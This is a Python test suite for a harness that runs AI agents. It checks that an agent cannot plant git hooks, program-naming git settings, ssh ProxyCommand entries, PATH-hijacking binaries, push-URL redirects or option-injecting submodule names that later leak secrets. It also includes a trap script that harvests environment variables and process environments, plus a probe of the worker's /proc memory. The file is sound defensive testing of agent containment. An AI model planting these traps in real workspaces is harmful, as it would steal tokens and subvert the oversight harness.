"""What an agent may plant in its workspace for the git that comes after it, and that none of it ever runs with a secret."""

from __future__ import annotations

import shlex
import shutil
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Final

import pytest
from helpers.git import GitSetup, git_at, git_setup
from helpers.worker import WorkerSetup, agent, agent_user, worker_setup
from standins.githttp import TOKEN, GitHttp
from standins.gitssh import GitSsh, key_pair, needs_ssh
from standins.repos import Repository, environment, run_git

from ccrun.process.user import User
from ccrun.task import GitAction, GitToken, PostRunActions, Secret, Status, UploadAction

__all__ = ["agent", "agent_user", "git_setup", "worker_setup"]
pytestmark = needs_ssh

KEY_BODY: Final = key_pair().openssh.splitlines()[2]
#: See githooks(5).
HOOKS: Final = (
    *("applypatch-msg", "pre-applypatch", "post-applypatch", "pre-commit", "pre-merge-commit", "prepare-commit-msg"),
    *("commit-msg", "post-commit", "pre-rebase", "post-checkout", "post-merge", "pre-push", "pre-receive", "update"),
    *("proc-receive", "post-receive", "post-update", "reference-transaction", "push-to-checkout", "pre-auto-gc"),
    *("post-rewrite", "sendemail-validate", "fsmonitor-watchman", "post-index-change"),
)
#: Settings of git that name a program, or lead to one. `TRAP` stands for the path of a script.
SETTINGS: Final = (
    "core.fsmonitor=TRAP",
    "core.sshCommand=TRAP",
    "core.gitProxy=TRAP",
    "core.editor=TRAP",
    "sequence.editor=TRAP",
    "core.pager=TRAP",
    "core.askPass=TRAP",
    "core.alternateRefsCommand=TRAP",
    "credential.helper=TRAP",
    "commit.gpgSign=true",
    "gpg.program=TRAP",
    "gpg.ssh.program=TRAP",
    "filter.evil.clean=TRAP",
    "filter.evil.smudge=TRAP",
    "filter.evil.process=TRAP",
    "diff.evil.textconv=TRAP",
    "diff.evil.command=TRAP",
    "diff.external=TRAP",
    "merge.evil.driver=TRAP",
    "remote.origin.receivepack=TRAP",
    "remote.origin.uploadpack=TRAP",
    "remote.origin.vcs=evil",
    "uploadpack.packObjectsHook=TRAP",
    "interactive.diffFilter=TRAP",
    "trailer.evil.command=TRAP",
    "alias.add=!TRAP",
    "alias.commit=!TRAP",
    "alias.push=!TRAP",
    "alias.rev-parse=!TRAP",
    "browser.evil.cmd=TRAP",
    "protocol.ext.allow=always",
    "submodule.recurse=true",
    "status.submoduleSummary=true",
)


def planting(trap: Path, server: str) -> str:
    """Return a script that plants everything, in its current folder and its HOME; its last word is that nothing failed."""
    configure = "\n".join(
        f'git -C "$1" config {name} "{value.replace("TRAP", str(trap))}"'
        for name, _, value in (setting.partition("=") for setting in SETTINGS)
    )
    hooks = "\n".join(f'cp {trap} "$1/.git/hooks/{name}"' for name in HOOKS)
    return f"""
set -e
export PATH=/usr/bin:/bin
plant() {{
  mkdir -p "$1/.git/hooks"
  {hooks}
  {configure}
  printf '* filter=evil diff=evil merge=evil\\n' >>"$1/.git/info/attributes" || true
}}
mkdir -p .git/info
# A repository inside.
git init -q nested; mkdir -p nested/.git/info
git -C nested -c user.name=a -c user.email=a@b commit -q --allow-empty -m a
# What a home holds.
mkdir -p ~/.ssh ~/bin ~/.config/git
printf '[core]\\n\\tfsmonitor = {trap}\\n\\tsshCommand = {trap}\\n[credential]\\n\\thelper = {trap}\\n' >~/.gitconfig
cp ~/.gitconfig ~/.config/git/config
printf 'Host *\\n  ProxyCommand {trap}\\n  LocalCommand {trap}\\n  PermitLocalCommand yes\\n' >~/.ssh/config
printf 'machine 127.0.0.1 login a password b\\n' >~/.netrc
for name in git ssh ssh-agent ssh-add cp cat setpriv; do cp {trap} ~/bin/$name; cp {trap} ./$name; done
# Elsewhere than asked: whoever follows the remote sends the secret there.
git config remote.origin.pushurl http://127.0.0.1:9/elsewhere.git
git config url.http://127.0.0.1:9/.insteadOf {server}
git config include.path ~/.gitconfig
printf '* filter=evil diff=evil merge=evil\\n' >.gitattributes
echo new >a.txt
plant nested
plant .
mkdir -p .git/worktrees/evil; echo {trap} >.git/worktrees/evil/gitdir
"""


@pytest.fixture
def evidence() -> Iterator[Path]:
    """A folder in which each run of the trap leaves what it could see; any user may write there."""
    folder = Path(tempfile.mkdtemp(prefix="ccrun-trap-"))
    folder.chmod(0o755)
    (folder / "seen").mkdir()
    (folder / "seen").chmod(0o1777)
    trap = folder / "trap"
    trap.write_text(
        f"""#!/bin/bash
{{ echo "$0 $*"; id -u; env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'; \
grep -rs . /tmp/ccrun-*/ /tmp/ws-*/ 2>/dev/null | head -c 1000000; }} >{folder}/seen/$BASHPID.$RANDOM 2>&1
cat 2>/dev/null
"""
    )
    trap.chmod(0o755)
    yield folder
    shutil.rmtree(folder)


def caught(evidence: Path) -> dict[str, str]:
    """Return what each trap saw."""
    return {path.name: path.read_text(errors="replace") for path in (evidence / "seen").iterdir()}


@pytest.fixture
async def repository(git_setup: GitSetup) -> Repository:
    """A repository that attributes everything to the evil drivers already."""
    return await git_setup.repos.create(
        "demo", {"a.txt": "old", ".gitattributes": "* filter=evil diff=evil merge=evil\n"}
    )


PUSHING: Final = PostRunActions(
    git=GitAction(commit=True, push=True), upload_files=UploadAction(glob_patterns=("**", ".git/**", "**/.git/**"))
)


@pytest.mark.parametrize("way", ["ssh", "http"])
@pytest.mark.parametrize("moved", [False, True])
async def test_nothing_that_was_planted_runs_after_the_agent(
    worker_setup: WorkerSetup,
    git_setup: GitSetup,
    repository: Repository,
    evidence: Path,
    agent: Callable[..., Any],
    agent_user: User | None,
    way: str,
    moved: bool,
) -> None:
    """Not for the commit, the rebase or the push, over SSH and over HTTP; and the work reaches the server of the request."""
    async with GitSsh(git_setup.repos) as over_ssh, GitHttp(git_setup.repos) as over_http:
        given: dict[str, Any] = (
            {"git_repo": over_ssh.url("demo"), "ssh_key": Secret(key_pair().openssh)}
            if way == "ssh"
            else {"git_repo": over_http.url("demo"), "git_token": GitToken.parse(TOKEN)}
        )
        script = agent(planting(evidence / "trap", given["git_repo"].rpartition("/")[0]))

        async def move(command: str) -> None:
            if moved and "receive-pack" in command and len(await repository.log("main")) == 1:
                await repository.commit({"a.txt": "theirs"})

        def cli() -> Path:
            over_ssh.before = over_http.before = move
            return Path(script())

        await worker_setup.submit(
            **given,
            post_execution_actions=PUSHING,
            # The agent's PATH is the caller's, and so the attacker's.
            environment_secrets={"PATH": Secret("./:../home/bin:/usr/bin:/bin"), "SECRET_ONE": Secret("made-up-value")},
        )
        # What the CLI is started with is not for a trap: the agent plants with the system's own tools.
        record = await worker_setup.run(cli=cli, agent_user=agent_user)
        assert (Status.COMPLETED, None) == (record.status, record.error)
        assert record.git_commit is not None
        assert record.git_commit.pushed, record.action_errors
        assert b"new\n" == (await repository.files("main"))["a.txt"]
        assert {} == caught(evidence)
        if way == "http":
            assert {None, ("x-access-token", TOKEN)} == {request.credential for request in over_http.requests}
    for file in record.uploaded_files or ():
        assert ".git/" not in file.original_path


async def test_the_traps_would_catch_a_careless_git(
    git_setup: GitSetup, repository: Repository, evidence: Path, tmp_path: Path
) -> None:
    """Plain `add`, `commit` and `push` in the planted tree, with the token in the environment, give it away."""
    async with GitHttp(git_setup.repos) as server:
        work = tmp_path / "work"
        await git_at(tmp_path / "home")("clone", "--quiet", f"file://{repository.path}", str(work))
        script = tmp_path / "plant"
        script.write_text(planting(evidence / "trap", server.base))
        clean = environment(HOME=str(tmp_path / "agent"), PATH="/usr/bin:/bin")
        process = await run_git("-C", str(work), "-c", f"alias.plant=!bash {script}", "plant", env=clean)
        assert 0 == process.code, process.stderr
        careless = environment(HOME=str(tmp_path / "agent"), PATH="/usr/bin:/bin", GIT_TOKEN=TOKEN)
        for arguments in (("add", "-A"), ("commit", "-qm", "x"), ("push", "-q", server.url("demo"), "HEAD:main")):
            await run_git("-C", str(work), *arguments, env=careless)
    seen = caught(evidence)
    assert len(seen) >= 3
    assert any(TOKEN in text for text in seen.values())


async def test_a_rescue_runs_nothing_that_was_planted(
    worker_setup: WorkerSetup,
    git_setup: GitSetup,
    repository: Repository,
    evidence: Path,
    agent: Callable[..., Any],
    agent_user: User | None,
) -> None:
    """The patch of a task that failed is made as carefully as a commit."""
    async with GitSsh(git_setup.repos) as server:
        script = planting(evidence / "trap", server.url("demo").rpartition("/")[0])
        await worker_setup.submit(git_repo=server.url("demo"), ssh_key=Secret(key_pair().openssh))
        record = await worker_setup.run(cli=agent(script, last="exit 1"), agent_user=agent_user)
    assert Status.FAILED == record.status
    assert ["rescue.patch"] == [file.original_path for file in record.uploaded_files or ()]
    assert {} == caught(evidence)


async def test_a_submodule_that_is_an_option_is_not_pushed(
    worker_setup: WorkerSetup,
    git_setup: GitSetup,
    repository: Repository,
    evidence: Path,
    agent: Callable[..., Any],
    agent_user: User | None,
) -> None:
    """Its name, its URL or its update would run something at whoever clones it; the work is kept as a patch."""
    trap = evidence / "trap"
    module = f'[submodule "--upload-pack={trap}"]\n\tpath = -sub\n\turl = --upload-pack={trap}\n\tupdate = !{trap}\n'
    async with GitSsh(git_setup.repos) as server:
        given = {"git_repo": server.url("demo"), "ssh_key": Secret(key_pair().openssh)}
        await worker_setup.submit(**given, post_execution_actions=PostRunActions(git=GitAction(commit=True, push=True)))
        script = agent(f"printf {shlex.quote(module)} >.gitmodules; echo new >a.txt")
        record = await worker_setup.run(cli=script, agent_user=agent_user)
    [error] = record.action_errors
    assert error.error.startswith("The agent's commit has objects that must not be pushed: ")
    assert "gitmodules" in error.error
    assert b"old" == (await repository.files("main"))["a.txt"]
    assert ["rescue.patch"] == [file.original_path for file in record.uploaded_files or ()]
    assert {} == caught(evidence)


async def test_an_agent_cannot_look_into_the_worker(
    worker_setup: WorkerSetup, git_setup: GitSetup, repository: Repository, agent: Callable[..., Any], evidence: Path
) -> None:
    """As a user of its own it reads neither memory nor environment of the worker, nor what the worker keeps, nor ends it."""
    import asyncio
    import os

    from ccrun.process.user import find_user
    from ccrun.worker.git.run import SYSTEM_PATH

    if os.geteuid() != 0:
        pytest.skip("only root may start processes as another user")
    user = await asyncio.to_thread(find_user, "61238", SYSTEM_PATH)
    pid = os.getpid()
    script = f"""
head -c 1 /proc/{pid}/environ >/dev/null 2>&1 && echo environ >>{evidence}/seen/got
head -c 1 /proc/{pid}/mem >/dev/null 2>&1 && echo memory >>{evidence}/seen/got
ls /proc/{pid}/fd >/dev/null 2>&1 && echo files >>{evidence}/seen/got
kill -0 {pid} 2>/dev/null && echo kill >>{evidence}/seen/got
ls /tmp/ws-*.* >/dev/null 2>&1 && echo rooms >>{evidence}/seen/got
[ "$(id -u)" = {user.uid} ] && echo "as {user.uid}" >>{evidence}/seen/got
"""
    async with GitSsh(git_setup.repos) as server:
        await worker_setup.submit(
            git_repo=server.url("demo"), ssh_key=Secret(key_pair().openssh), post_execution_actions=PUSHING
        )
        await worker_setup.run(cli=agent(script), agent_user=user)
    assert {"got": f"as {user.uid}\n"} == caught(evidence)
